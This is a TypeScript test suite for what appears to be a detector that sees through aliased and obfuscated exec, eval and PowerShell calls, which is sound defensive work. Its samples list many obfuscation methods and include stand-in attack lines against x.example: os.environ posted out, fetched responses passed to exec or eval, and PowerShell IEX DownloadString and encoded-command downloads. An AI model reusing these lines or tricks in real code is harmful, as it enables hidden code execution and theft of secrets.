import assert from "node:assert/strict";
import { createCipheriv, createHmac } from "node:crypto";
import { test } from "node:test";
import fc from "fast-check";
import type { FileKind } from "../model.ts";
import { argumentText, type Call, calls, constantText, originsOf, references } from "./calls.ts";
import { lex } from "./lex.ts";

function read(
  kind: FileKind,
  text: string,
): { readonly calls: readonly Call[]; readonly references: readonly string[] } {
  const file = { kind, text, tokens: lex(kind, text) };
  return { calls: calls(file), references: references(file).map((use) => use.name) };
}

function called(kind: FileKind, text: string): string[] {
  return read(kind, text).calls.map((call) => call.name);
}

/** The first argument of the last call of `name`. */
function given(kind: FileKind, text: string, name: string): string | undefined {
  const call = read(kind, text).calls.findLast((one) => one.name === name);
  assert.ok(call, `${name} in ${text}`);
  return argumentText(call, 0);
}

const PYTHON_ALIASES: readonly (readonly [string, string])[] = [
  ["_e = exec\n_e('x')", "exec"],
  ["import os as o\no.system('x')", "os.system"],
  ["from os import system as s\ns('x')", "os.system"],
  ["from os import (path,\n system)\nsystem('x')", "os.system"],
  ["import os\ngetattr(os, 'sys' + 'tem')('x')", "os.system"],
  ["__import__('o' 's').system('x')", "os.system"],
  ["import importlib\nimportlib.import_module('os').popen('x')", "os.popen"],
  ["globals()['ex' + 'ec']('x')", "exec"],
  ["__builtins__.__dict__['exec']('x')", "exec"],
  ["import builtins as b\nb.exec('x')", "exec"],
  ["import sys\nsys.modules['os'].system('x')", "os.system"],
  ["𝐞𝐱𝐞𝐜('x')", "exec"],
  ["a = b = exec\nb('x')", "exec"],
  ["import os\nos.system.__call__('x')", "os.system"],
  ["import os\nx = {'k': os.system}\nx['k']('x')", "os.system"],
  ["import functools, os\nfunctools.partial(os.system)('x')", "os.system"],
  ["if 0:\n  exec = print\nexec('x')", "exec"],
  ["def unused(exec):\n  pass\nexec('x')", "exec"],
  ["f'{exec(\"x\")}'", "exec"],
];

test("Python names are resolved through aliases, imports and indirection", () => {
  for (const [source, name] of PYTHON_ALIASES) assert.ok(called("python", source).includes(name), source);
});

const JAVASCRIPT_ALIASES: readonly (readonly [string, string])[] = [
  ["const { exec: e } = require('node:child_process'); e('x')", "child_process.exec"],
  ["var c = require('child' + '_process'); c['ex' + 'ec']('x')", "child_process.exec"],
  ["import { exec as e } from 'node:child_process'; e('x')", "child_process.exec"],
  ["import cp from 'child_process'; cp.exec('x')", "child_process.exec"],
  ["import * as cp from 'child_process'; cp.exec('x')", "child_process.exec"],
  ["(await import('child_process')).exec('x')", "child_process.exec"],
  ["process.mainModule.require('child_process').exec('x')", "child_process.exec"],
  ["(0, eval)('x')", "eval"],
  ["eval.call(null, 'x')", "eval"],
  ["globalThis['ev' + 'al']('x')", "eval"],
  ["\\u0065val('x')", "eval"],
  ["new Function('x')()", "Function"],
  ["[].filter.constructor('x')()", "Function"],
  ["(() => {}).constructor('x')()", "Function"],
  ["const p = util.promisify(require('child_process').exec); p('x')", "child_process.exec"],
  ["const a = { b: require('child_process') }; a.b.exec('x')", "child_process.exec"],
  [`\`$\{eval('x')}\``, "eval"],
  ["function unused(eval) {} eval('x')", "eval"],
];

test("JavaScript names are resolved through aliases, imports and indirection", () => {
  for (const [source, name] of JAVASCRIPT_ALIASES) assert.ok(called("javascript", source).includes(name), source);
});

const PYTHON_TEXTS: readonly string[] = [
  "exec('pri' 'nt' + \"(1)\")",
  "x = 'pri'\nx += 'nt(1)'\nexec(x)",
  "exec(''.join(['pri', 'nt', '(1)']))",
  "exec('%s(%d)' % ('print', 1))",
  "exec('{}({n})'.format('print', n=1))",
  "p = 'print'\nexec(f'{p}({1})')",
  "exec(')1(tnirp'[::-1])",
  "exec(''.join(reversed(')1(tnirp')))",
  "exec(''.join(chr(c) for c in [112, 114, 105, 110, 116, 40, 49, 41]))",
  "exec(''.join(map(chr, [112, 114, 105, 110, 116, 40, 49, 41])))",
  "exec(chr(112) + chr(100 + 14) + chr(0x69) + 'nt(1)')",
  "import base64\nexec(base64.b64decode('cHJpbnQoMSk=').decode('utf-8'))",
  "from base64 import b64decode as d\nexec(d(b'cHJpbnQoMSk='))",
  "import base64\nexec(base64.b32decode('OBZGS3TUFAYSS==='))",
  "import base64\nexec(base64.b85decode('aB^vGbSN<?'))",
  "exec(bytes.fromhex('7072696e742831 29'))",
  "import binascii\nexec(binascii.unhexlify('7072696e742831' + '29'))",
  "import codecs\nexec(codecs.decode('cevag(1)', 'rot13'))",
  "exec(bytes([112, 114, 105, 110, 116, 40, 49, 41]).decode())",
  "exec(''.join(chr(ord(c) ^ 1) for c in 'qshou)0('))",
  "exec(bytes([a ^ b for a, b in zip(b'qpjov+0+', __import__('itertools').cycle(b'\\x01\\x02\\x03'))]))",
  "def d(s, k):\n    r = ''\n    for c in s:\n        r += chr(ord(c) ^ k)\n    return r\nexec(d('qshou)0(', 1))",
  "d = lambda s: ''.join(chr(ord(c) - 1) for c in s)\nexec(d('qsjou)2*'))",
  "out = []\nfor c in 'qsjou)2*':\n    out.append(chr(ord(c) - 1))\nexec(''.join(out))",
  "exec(run)\nrun = 'print(1)'",
  "exec('print(1)X'.replace('X', ''))",
  "import zlib, base64\nexec(zlib.decompress(base64.b64decode('eJwrKMrMK9Ew1AQADhUCsA==')))",
  "exec(compile('print(1)', 'a', 'exec'))",
  "exec((8102654602709053737).to_bytes(8, 'big'))",
];

test("Python arguments are folded to the text that is executed", () => {
  for (const source of PYTHON_TEXTS) assert.equal(given("python", source, "exec"), "print(1)", source);
});

const JAVASCRIPT_TEXTS: readonly string[] = [
  `eval('al' + \`ert($\{1})\`)`,
  "eval('1(trela'.split('').reverse().join('') + ')')",
  "eval(['al', 'ert(1)'].join(''))",
  "eval(String.fromCharCode(97, 108, 101, 114, 116, 40, 49, 41))",
  "eval(String.fromCharCode.apply(null, [97, 108, 101, 114, 116, 40, 49, 41]))",
  "eval(String.fromCharCode(...[97, 108, 101, 114, 116, 40, 49, 41]))",
  "eval([97, 108, 101, 114, 116, 40, 49, 41].map((c) => String.fromCharCode(c)).join(''))",
  "eval(atob('YWxlcnQoMSk='))",
  "eval(Buffer.from('616c657274283129', 'hex').toString())",
  "const b = 'YWxlcnQoMSk='; eval(Buffer.from(b, 'base64') + '')",
  "eval(unescape('%61lert%281%29'))",
  "eval(decodeURIComponent('alert%281%29'))",
  "function d(s) { return Buffer.from(s, 'base64').toString('utf8'); } eval(d('YWxlcnQoMSk='))",
  "let s = ''; for (let i = 0; i < 8; i++) { s += String.fromCharCode('bmfsu)2*'.charCodeAt(i) - 1); } eval(s)",
  "eval('alXert(X1)'.replace(/X/g, ''))",
  "const a = ['ert', 'al', '(1)']; eval(a[1] + a[0] + a[2])",
  "eval(require('zlib').gunzipSync(Buffer.from('H4sIAAAAAAACA0vMSS0q0TDUBADWy7K4CAAAAA==', 'base64')).toString())",
];

test("JavaScript arguments are folded to the text that is executed", () => {
  for (const source of JAVASCRIPT_TEXTS) assert.equal(given("javascript", source, "eval"), "alert(1)", source);
});

function sealFernet(text: string, key: Buffer): string {
  const cipher = createCipheriv("aes-128-cbc", key.subarray(16), Buffer.alloc(16, 7));
  const head = Buffer.concat([Buffer.from([0x80]), Buffer.alloc(8), Buffer.alloc(16, 7)]);
  const body = Buffer.concat([head, cipher.update(text), cipher.final()]);
  return Buffer.concat([body, createHmac("sha256", key.subarray(0, 16)).update(body).digest()]).toString("base64url");
}

test("text encrypted with a key that stands in the file is read", () => {
  const key = Buffer.alloc(32, 5);
  const seal = (text: string) =>
    `from cryptography.fernet import Fernet\nk = b'${key.toString("base64url")}'\nf = Fernet(k)\nexec(f.decrypt(b'${sealFernet(text, key)}'))`;
  assert.equal(given("python", seal("print(1)"), "exec"), "print(1)");
  assert.equal(given("python", seal("print(1)").replace("k = b'BQUF", "k = b'BQUG"), "exec"), undefined);
  const cipher = createCipheriv("aes-256-cbc", key, Buffer.alloc(16));
  const hex = cipher.update("alert(1)", "utf8", "hex") + cipher.final("hex");
  const source = `const d = require('crypto').createDecipheriv('aes-256-cbc', Buffer.from('${key.toString("hex")}', 'hex'), Buffer.from('${"00".repeat(16)}', 'hex'));
eval(d.update('${hex}', 'hex', 'utf8') + d.final('utf8'))`;
  assert.equal(given("javascript", source, "eval"), "alert(1)");
});

test("what is not constant leaves a gap, and its origins can be walked", () => {
  const source =
    "import os, requests\nd = {'h': os.environ}\nrequests.post(f'https://x.example/{os.getpid()}', json=d)";
  const call = read("python", source).calls.find((one) => one.name === "requests.post");
  assert.ok(call);
  assert.equal(argumentText(call, 0), undefined);
  assert.equal(constantText(call), "https://x.example/… h os.environ");
  const origins = call.args.flatMap((argument) => [...originsOf(argument.value)]);
  assert.ok(origins.some((origin) => origin.kind === "name" && origin.name === "os.environ"));
  assert.ok(origins.some((origin) => origin.kind === "name" && origin.name === "os.getpid()"));
});

test("the result of a call goes on under its name, through variables and callbacks", () => {
  assert.ok(called("python", "import requests\nr = requests.get('u')\nexec(r.text)").includes("exec"));
  const [, run] = read("python", "import requests\nr = requests.get('u')\nexec(r.text)").calls;
  assert.deepEqual(
    run?.args.map((argument) => argument.value.kind === "name" && argument.value.name),
    ["requests.get().text"],
  );
  const source = "const https = require('https'); https.get('u', (r) => { r.on('data', (d) => { eval(d); }); });";
  const last = read("javascript", source).calls.at(-1);
  assert.equal(last?.name, "eval");
  assert.ok(
    [...originsOf(last!.args[0]!.value)].some(
      (origin) => origin.kind === "name" && origin.name.startsWith("https.get()"),
    ),
  );
});

test("calls say which functions and classes they stand in and whether loading the file runs them", () => {
  const python = read(
    "python",
    "a()\nclass C(X):\n    b()\n    def run(self):\n        c()\n    d()\ndef f(): e()\ng()\n",
  ).calls;
  assert.deepEqual(
    python.map((call) => `${call.within}:${call.name}:${call.isTopLevel}`),
    [":a:true", "C:b:true", "C.run:c:false", "C:d:true", "f:e:false", ":g:true"],
  );
  const source =
    "(function () { a(); })(); (() => { b() })(); function f() { c() } const g = () => { d() }; class K { m() { e() } } h(() => { i() })";
  const javascript = read("javascript", source).calls.filter((call) => call.name !== "");
  assert.deepEqual(
    javascript.map((call) => `${call.within}:${call.name}:${call.isTopLevel}`),
    [":a:true", ":b:true", "f:c:false", "g:d:false", "K.m:e:false", ":h:true", ":i:true"],
  );
});

test("names that are used but not called are references", () => {
  assert.deepEqual(read("python", "import os as o\nx = o.environ\nprint(o.environ['A'])").references, [
    "os.environ",
    "os.environ.A",
  ]);
  assert.deepEqual(read("javascript", "send(process['env'], process.env.TOKEN)").references, [
    "process.env",
    "process.env.TOKEN",
  ]);
});

const PIECES = [
  ..."()[]{}.,:;=+-*/%^&|<>!~@#'\"`$\n \t\\",
  ...[
    "a",
    "b",
    "self",
    "lambda ",
    "def f(x):\n  ",
    "for x in ",
    "return ",
    "if ",
    " else ",
    "class A:\n ",
    "import a\n",
    "=>",
    "function ",
    "...",
    "**",
    "'s'",
    'f"{',
    '}"',
    "`${",
    "b'x'",
    "[::-1]",
    ".join",
    "chr",
    "exec(",
    "1",
    "+=",
    ":=",
    "?.",
    "const {",
    "const ",
    "new ",
    "await ",
    "async ",
    "in ",
    "of ",
  ],
];

test("no text makes reading calls throw", () => {
  const text = fc.array(fc.constantFrom(...PIECES), { maxLength: 60 }).map((pieces) => pieces.join(""));
  fc.assert(
    fc.property(fc.constantFrom<FileKind>("python", "javascript", "powershell"), text, (kind, source) => {
      const found = read(kind, source);
      for (const call of found.calls) constantText(call);
    }),
    { numRuns: 3000 },
  );
});

test("hostile files cost bounded time", () => {
  const heads: readonly string[] = [
    "f(",
    "(",
    "[",
    "{",
    "a.",
    "a+",
    "x=",
    "`${",
    "f'{",
    "lambda x:",
    "def f():",
    "if x:",
    "import a,",
    "from a;",
    "const {a:",
    "a=>",
    "a?b:",
    "for x in y:",
    "class A:",
    "x=x+x;",
    "x=x+x\n",
    "function f(",
    "new ",
    "a[",
    "!",
    "async ",
    "f(a)(",
    "a:",
  ];
  for (const head of heads) {
    for (const kind of ["python", "javascript", "powershell"] as const) {
      const started = performance.now();
      read(kind, `x='a'\n${head.repeat(8_000)}`);
      assert.ok(performance.now() - started < 10_000, `${kind} ${JSON.stringify(head)}`);
    }
  }
});

test("f-strings inside, beside and behind each other cost no more than their length, closed or not", () => {
  const n = 20_000;
  const unclosed = ["f'{", "f'{a}{", "f'{x:{", "f'{x}' f'{"].map((one) => one.repeat(n));
  const closed = ["f'{x}'", "'a' f'{x}'", "f'{x}{x}'\n"].map((one) => one.repeat(n));
  for (const text of [...unclosed, ...closed, `${"f'{".repeat(n)}${"}'".repeat(n)}`]) {
    const before = process.cpuUsage();
    read("python", text);
    const { user, system } = process.cpuUsage(before);
    assert.ok(user + system < 3_000_000, `${text.slice(0, 20)} took ${user + system} µs`);
  }
});

test("an f-string inside the hole of another ends in that hole", () => {
  const [call] = read("python", "a = 'o'\nexec(f'{0, f\"{a}\"}s.{a}' 'k', late)").calls;
  assert.equal(call?.args.length, 2);
  assert.match(argumentText(call, 0) ?? "", /s\.ok$/);
  assert.deepEqual(
    read("python", `${"f'{".repeat(200)}run(1)${"}'".repeat(200)}\nshow(2)`).calls.map(({ name }) => name),
    ["run", "show"],
  );
});

test("functions that call each other without end, and doublings, are given up", () => {
  const mutual = "def a(x): return b(x) + b(x)\ndef b(x): return a(x) + a(x)\nexec(a('x'))";
  assert.equal(given("python", mutual, "exec"), undefined);
  const wide = Array.from({ length: 30 }, (_, at) => `def f${at + 1}(x): return f${at}(x) + f${at}(x)`).join("\n");
  assert.equal(given("python", `def f0(x): return x\n${wide}\nexec(f30('x'))`, "exec"), undefined);
  assert.equal(given("python", `x = 'a'\n${"x = x + x\n".repeat(60)}exec(x)`, "exec"), undefined);
});

test("PowerShell commands, parameters and methods are read with aliases and backticks seen through", () => {
  const source = `I\`EX (New-Object Net.WebClient).DownloadString('http://x.example/a' + '.ps1')
iwr -Uri "http://x.example/b" -OutFile $env:TEMP\\b.exe | Out-Null
& ('i' + 'ex') $x; powershell -nop -enc SQBFAFgAIAAoAA+/A==
$u = 'http://x.example/' ; $c = [System.Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('YQBiAGMA'))
Start-Process "$u$c"; (-join ([char[]](105,101,120))) ; ('{1}{0}' -f 'b','a') | iex; [char]105 + 'ex'`;
  const found = read("powershell", source).calls;
  const names = found.map((call) => call.name);
  for (const name of [
    "invoke-expression",
    "net.webclient.downloadstring",
    "invoke-webrequest",
    "convert.frombase64string",
    "powershell",
  ]) {
    assert.ok(names.includes(name), name);
  }
  assert.equal(argumentText(found.find((call) => call.name.endsWith("downloadstring"))!, 0), "http://x.example/a.ps1");
  assert.equal(argumentText(found.find((call) => call.name === "invoke-webrequest")!, "uri"), "http://x.example/b");
  assert.equal(argumentText(found.find((call) => call.name === "powershell")!, "enc"), "SQBFAFgAIAAoAA+/A==");
  assert.equal(argumentText(found.find((call) => call.name === "start-process")!, 0), "http://x.example/abc");
  assert.equal(names.filter((name) => name === "invoke-expression").length, 3);
});
